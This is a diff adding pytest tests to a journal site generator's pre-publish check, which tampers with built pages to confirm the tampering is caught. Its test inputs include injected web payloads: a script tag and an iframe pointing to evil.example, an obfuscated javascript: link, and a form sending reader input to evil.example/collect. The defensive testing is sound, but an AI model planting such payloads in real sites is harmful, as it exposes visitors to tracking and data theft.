@@ -82,3 +82,97 @@ def test_a_missing_guestbook_form_is_found(site: SiteDir) -> None:
     site.build()
     problems = _messages(site)
     assert any("guestbook form 'guestbook'" in p for p in problems), problems
+
+
+# --- The gate before publishing: tampering with a good build ------------------------------
+
+FAREWELL = """\
+---
+title: "Goodbye"
+kind: farewell
+draft: true
+---
+
+I'm writing this while I still can: thank you, every one of you, for the soup and the songs.
+"""
+
+
+def _tampered(site: SiteDir, change: str) -> list[str]:
+    _good_site(site)
+    site.write("content/entries/goodbye.md", FAREWELL)
+    site.build()
+    assert _messages(site) == []
+    index = site.out / "index.html"
+    page = index.read_text(encoding="utf-8")
+    if change == "extra file":
+        (site.out / "notes.txt").write_text("private notes\n")
+    elif change == "temporary file":
+        (site.out / ".index.html.journalgen-795.tmp").write_text(page)
+    elif change == "script":
+        index.write_text(
+            page.replace("</body>", '<script src="https://evil.example/x.js"></script></body>')
+        )
+    elif change == "iframe":
+        index.write_text(
+            page.replace("</main>", '<iframe src="https://evil.example/"></iframe></main>')
+        )
+    elif change == "javascript link":
+        index.write_text(
+            page.replace("</main>", '<a href=" JaVa&#x09;script:alert(1)">x</a></main>')
+        )
+    elif change == "foreign form":
+        index.write_text(
+            page.replace(
+                "</main>",
+                '<form action="https://evil.example/collect"><input name=q></form></main>',
+            )
+        )
+    elif change == "draft in feed":
+        feed = site.out / "feed.xml"
+        feed.write_text(
+            feed.read_text().replace(
+                "</channel>",
+                "<item><description>The grandparents must not read this before "
+                "Sunday&apos;s lunch</description></item></channel>",
+            )
+        )
+    elif change == "farewell in a text file":
+        robots = site.out / "robots.txt"
+        robots.write_text(
+            robots.read_text() + "# I'm writing this while I still can: thank "
+            "you, every one of you\n"
+        )
+    return _messages(site)  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        ("extra file", "notes.txt: this file was not written by the last build"),
+        ("temporary file", ".index.html.journalgen-795.tmp: this file was not written"),
+        ("script", "index.html: this page has a script (https://evil.example/x.js)"),
+        ("iframe", "index.html: this page has a <iframe>"),
+        ("javascript link", "index.html: this page has a `href` that runs code"),
+        ("foreign form", "sends what readers type to https://evil.example/collect"),
+        ("draft in feed", "2026-11-21-secret.md: this entry is a draft but its text is in"),
+        ("farewell in a text file", "goodbye.md: this entry is a held farewell but its text"),
+    ],
+)
+def test_deploy_check_catches_tampering(site: SiteDir, change: str, expected: str) -> None:
+    problems = _tampered(site, change)
+    assert any(expected in problem for problem in problems), problems
+
+
+def test_deploy_check_compares_netlify_toml_with_the_headers_file(site: SiteDir) -> None:
+    from journalgen.publishing import hosts
+
+    _good_site(site)
+    site.write("netlify.toml", hosts.netlify_toml().decode())
+    site.build()
+    assert _messages(site) == []
+    site.write(
+        "netlify.toml",
+        hosts.netlify_toml().decode().replace('Referrer-Policy = "same-origin"',
+                                              'Referrer-Policy = "unsafe-url"'),
+    )  # fmt: skip
+    assert any("Referrer-Policy for /* differs" in p for p in _messages(site))
